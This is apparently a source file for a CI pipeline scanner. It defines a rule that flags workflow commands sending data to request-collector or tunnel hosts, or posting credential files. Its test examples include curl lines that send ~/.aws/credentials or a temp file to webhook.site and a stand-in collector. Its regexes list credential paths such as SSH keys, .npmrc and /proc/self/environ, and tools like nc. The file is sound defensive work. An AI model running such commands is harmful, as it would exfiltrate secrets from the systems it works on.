import type { Rule } from "../../core/rule.ts";
import type { RunCommand, Trigger } from "../facts.ts";

const push: Trigger = { events: ["push"], outsider: false, privileged: false };
const curl = (...args: string[]) => ({ program: "curl", args, reads: [], trigger: push });

export const dataCarriedOff: Rule<RunCommand> = {
  id: "workflows/data-carried-off",
  on: "run-command",
  title: "Data sent to where stolen data is collected",
  severity: "high",
  why: "Boxes that collect whatever is sent to them, and tunnels to somebody's own machine, are where the worms of 2025 and the pushes of May 2026 brought what they took. A pipeline seldom has business there.",
  fix: "Find out who wrote the line. When it has run, replace every credential that the job held.",
  standards: ["OWASP CICD-SEC-7", "OWASP CICD-SEC-6"],
  aliases: ["pipeline-check/GHA-027", "pipeline-check/GL-025"],
  examples: [
    { given: curl("-d", "@/tmp/x", "https://webhook.site/0f7d"), verdict: "fail" },
    { given: curl("-d", "@~/.aws/credentials", "https://collector.example/x"), verdict: "fail" },
    { given: curl("https://webhook.site/0f7d"), verdict: "fail" },
    { given: curl("-d", "@report.json", "https://api.example.com"), verdict: "pass" },
  ],
  judge: ({ program, args }) => {
    if (!/^(?:curl|wget|nc|ncat|python\d?(?:\.\d+)?|node|bash|sh)$/.test(program)) return { kind: "pass" };
    const text = args.join(" ");
    const place = COLLECTORS.exec(text)?.[0];
    const taken = /^(?:curl|wget|nc|ncat)$/.test(program) ? TAKEN.exec(text)?.[0] : undefined;
    if (place === undefined && taken === undefined) return { kind: "pass" };
    return {
      kind: "fail",
      message: taken === undefined ? `${program} speaks with ${place}` : `${program} sends ${taken} away`,
      cause: place ?? taken ?? "",
      evidence: [{ kind: "bytes", text: `${program} ${text}`.slice(0, 300) }],
    };
  },
};

/** Collectors and tunnels by their makers' own names. */
const COLLECTORS =
  /\b(?:webhook\.site|[\w-]+\.(?:requestbin\.(?:com|net)|pipedream\.net|burpcollaborator\.net|oastify\.com|oast\.(?:pro|live|site|online|fun|me)|interact\.sh|requestcatcher\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|beeceptor\.com))\b/i;

/** Files in which credentials lie, handed to a command that sends. */
const TAKEN =
  /@[^\s"']*(?:\/\.aws\/credentials|\/\.ssh\/id_\w+|\/\.npmrc|\/\.pypirc|\/\.docker\/config\.json|\/\.kube\/config|\/\.git-credentials|\/\.netrc|\/proc\/(?:self|\d+)\/(?:environ|mem))/;
